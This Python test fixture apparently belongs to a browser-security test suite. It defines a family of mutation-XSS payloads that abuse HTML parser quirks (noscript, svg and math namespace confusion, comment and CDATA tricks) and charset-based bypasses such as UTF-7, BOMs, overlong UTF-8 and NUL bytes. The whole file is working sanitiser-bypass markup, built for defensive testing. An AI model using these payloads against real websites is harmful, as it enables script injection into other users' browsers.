"""Markup that changes its meaning when it is written and read once more."""

from tests.browser.hostile.payloads.payload import KNOWN, Family, Payload, family

_IMG = "<img src=x onerror=RUN>"


def _bytes(markup: str, encoding: str) -> bytes:
    return markup.replace("KNOWN", KNOWN).encode(encoding)


MUTATION: Family = family(
    {
        "noscript": f"<noscript><p title='</noscript>{_IMG}'></noscript>",
        "noembed": f"<noembed><p title='</noembed>{_IMG}'></noembed>",
        "noframes": f"<noframes><p title='</noframes>{_IMG}'></noframes>",
        "textarea": f"<textarea><p title='</textarea>{_IMG}'></textarea>",
        "title": f"<svg><title><p title='</title>{_IMG}'></title></svg>",
        "style": f"<svg><style><a title='</style>{_IMG}'></a></style></svg>",
        "xmp": f"<svg><xmp><p title='</xmp>{_IMG}'></xmp></svg>",
        "plaintext": f"<svg><plaintext><p title='</plaintext>{_IMG}'>",
        "iframe as text": f"<iframe><p title='</iframe>{_IMG}'></iframe>",
        "comment, short": f"<!-->{_IMG}-->",
        "comment, with a dash": f"<!--->{_IMG}-->",
        "comment, with a bang": f"<!--x--!>{_IMG}-->",
        "comment, nested": f"<!--<!-- -->{_IMG}<!-- --!>{_IMG} -->",
        "comment in svg style": f"<svg><style><!--</style>{_IMG}--></style></svg>",
        "conditional comment": f"<!--[if true]>{_IMG}<![endif]--><![if true]>{_IMG}<![endif]>",
        "declaration": f"<!x '>{_IMG}'><?x '>{_IMG}?>",
        "doctype": f"<!doctype html '>{_IMG}'>",
        "cdata": f"<![CDATA[<p title=']]>{_IMG}'>]]>",
        "cdata in svg": f"<svg><![CDATA[<p title=']]></svg>{_IMG}'>]]></svg>",
        "math, table, mglyph": (
            "<math><mtext><table><mglyph><style><!--</style>"
            "<img title='--&gt;&lt;img src=x onerror=RUN&gt;'>"
        ),
        "math, form in form": (
            "<form><math><mtext></form><form><mglyph><style></math>"
            "<img src=x onerror=RUN></style></mglyph></form>"
        ),
        "math, mi and option": (
            "<math><mi><table><option><mglyph><style><!--</style>"
            "<a title='--><img src=x onerror=RUN>'>"
        ),
        "svg, foreign object, math": (
            "<svg><foreignObject><math><mi><p><style><a title='</style><img src=x onerror=RUN>'>"
        ),
        "svg, desc, noscript": (
            "<svg><desc><noscript><style></noscript><img src=x onerror=RUN></style></desc></svg>"
        ),
        "svg, annotation": (
            "<svg><annotation-xml encoding=text/html><style><a title='</style>"
            "<img src=x onerror=RUN>'></annotation-xml></svg>"
        ),
        "svg ended by a paragraph": f"<svg></p><style><a id='</style>{_IMG}'>",
        "svg ended by a font": f"<svg><font color=x><style><a id='</style>{_IMG}'>",
        "table fostering": f"<table><tr><p><td>{_IMG}</td></p><style><a title='</style>{_IMG}'>",
        "nested tables": f"<table><td><table><caption><form><select>{_IMG}</select></table>",
        "nested forms": f"<form><div></form><form>{_IMG}<p id=x></div></form>",
        "nested links": f"<a><table><a>{_IMG}</a></table></a>",
        "nested buttons": f"<button><p><button>{_IMG}</button>",
        "select": f"<select><style></select>{_IMG}</style></select>",
        "select in select": f"<select><select><option><iframe></select>{_IMG}</iframe>",
        "template in a table": f"<table><template><td><style></template>{_IMG}</style>",
        "adoption": "<b><i>" * 30 + f"<p></b></i>{_IMG}",
        "deep enough to be cut": "<div>" * 600 + f"<svg><style><a title='</style>{_IMG}'>",
        "attribute name with markup": '<p a"><img/src=x/onerror=RUN>b=x>x</p>',
        "attribute without an end": "<p title='x><img src=x onerror=RUN>",
        "tag without an end": "<p><img src=x onerror=RUN <p>x",
        "slashes and equals": "<p/=/onclick=RUN/=>x</p><svg/onload=RUN/>",
        "character references": "<p>&lt;img src=x onerror=RUN&gt;&#60;script&#62;RUN&lt/script&gt",
        "replaced characters": "<p title='&#0;&#x80;&#xD800;\"><img src=x onerror=RUN>'>x</p>",
        "line separators": "<img\u2028src=x\u2029onerror=RUN><a href='\u2028javascript:RUN'>x</a>",
        "letters that grow": "<\u017fcript>RUN</\u017fcript><\u017fvg onload=RUN>",
    }
) | {
    "utf-7": Payload(
        _bytes("<meta charset=utf-7><p>KNOWN</p>+ADw-script+AD4-console.log(/pwned/)", "ascii")
    ),
    "utf-7 by header": Payload(
        _bytes("<p>KNOWN</p>+ADw-img src=x onerror=console.log(/pwned/)+AD4-", "ascii"),
        charset="utf-7",
    ),
    "utf-16 with a mark": Payload(
        _bytes("\ufeff<p>KNOWN</p><script>console.log(/pwned/)</script>", "utf-16-le")
    ),
    "utf-16 that calls itself utf-8": Payload(
        _bytes(
            "\ufeff<meta charset=utf-8><p>KNOWN</p><svg onload=console.log(/pwned/)>", "utf-16-be"
        )
    ),
    "mark in the middle": Payload(
        _bytes(
            "<p>KNOWN</p>\ufeff<scr\ufeffipt>x</script><img src=x onerror=console.log(/pwned/)>",
            "utf-8",
        )
    ),
    "overlong utf-8": Payload(
        _bytes("<p>KNOWN</p>", "ascii")
        + b"\xc0\xbcscript\xc0\xbeconsole.log(/pwned/)\xc0\xbc/script\xc0\xbe\xe0\x80\xbcimg>"
    ),
    "broken utf-8 before a quote": Payload(
        _bytes("<p>KNOWN</p>", "ascii")
        + b"<p title='\xe4'>x</p><p title='\xf0\"><img src=x onerror=console.log(/pwned/)>'>"
    ),
    "escape sequences of iso-2022-jp": Payload(
        _bytes("<meta charset=iso-2022-jp><p>KNOWN</p>", "ascii")
        + b"<p title='\x1b$B'>x</p><p id='\x1b(B><img src=x onerror=console.log(/pwned/)>'>"
    ),
    "half a character of gbk": Payload(
        _bytes("<meta charset=gbk><p>KNOWN</p>", "ascii")
        + b'<p title="\x81"><img src=x onerror=console.log(/pwned/)>">'
    ),
    "nul bytes in tags": Payload(
        _bytes("<p>KNOWN</p>", "ascii")
        + b"<scr\x00ipt>console.log(/pwned/)</scr\x00ipt>"
        + b"<\x00img src=x on\x00error=console.log(/pwned/)>"
    ),
}
